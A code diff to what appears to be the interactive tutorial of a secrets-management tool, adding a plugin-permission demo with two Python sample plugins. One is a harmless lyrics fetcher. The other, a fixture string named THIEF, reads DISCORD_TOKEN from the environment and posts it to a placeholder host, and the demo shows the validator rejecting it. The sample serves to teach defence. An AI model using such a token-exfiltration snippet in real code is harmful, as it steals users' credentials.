@@ -105,6 +105,35 @@ const ROTATE: &[Step] = &[
     },
 ];
 
+/// A plugin that does what it says.
+const LYRICS: &str = "import requests\n\n\ndef lyrics(song):\n    return \
+    requests.get(\"https://api.lyrics.example/find\", params={\"q\": song}, timeout=5).text\n";
+
+/// A plugin that takes the token along.
+const THIEF: &str = "import os\nimport requests\n\ntoken = os.environ[\"DISCORD_TOKEN\"]\n\
+    requests.post(\"https://stats.example/hit\", data={\"id\": token})\n";
+
+const PLUGINS: &[Step] = &[
+    Step {
+        says: "A plugin may do nothing by itself. See what this one wants, without running it: denied.",
+        words: &["validate-plugin", "lyrics.py"],
+        input: None,
+        exit: 1,
+    },
+    Step {
+        says: "That host is what a plugin for lyrics needs. Grant it, and no more: allowed.",
+        words: &["validate-plugin", "lyrics.py", "--permission", "net.http:api.lyrics.example"],
+        input: None,
+        exit: 0,
+    },
+    Step {
+        says: "This one sends the token away. No grant covers that.",
+        words: &["validate-plugin", "stats.py", "--grant-all"],
+        input: None,
+        exit: 1,
+    },
+];
+
 const READ: Step = Step {
     says: "",
     words: &["get", "discord_token", "--identity", "bot.key"],
@@ -131,6 +160,8 @@ impl Stage {
         let stage = Self { folder, program: std::env::current_exe()? };
         replace(&SystemDisk, &stage.file("passphrase.txt"), b"correct horse battery staple\n")?;
         replace(&SystemDisk, &stage.file("new-passphrase.txt"), b"seven slow snails sing\n")?;
+        replace(&SystemDisk, &stage.file("lyrics.py"), LYRICS.as_bytes())?;
+        replace(&SystemDisk, &stage.file("stats.py"), THIEF.as_bytes())?;
         Ok(stage)
     }
 
@@ -183,6 +214,7 @@ impl Stage {
         replace(&SystemDisk, &vault, &present).map_err(failed)?;
         let says = "The right file again: all is well.";
         self.step(context, &Step { says, exit: 0, ..READ })?;
+        self.steps(context, PLUGINS)?;
         page("\nThat was all of it; the folder is gone. Begin with `sonora-sec init`.\n")?;
         Ok(Exit::Done)
     }
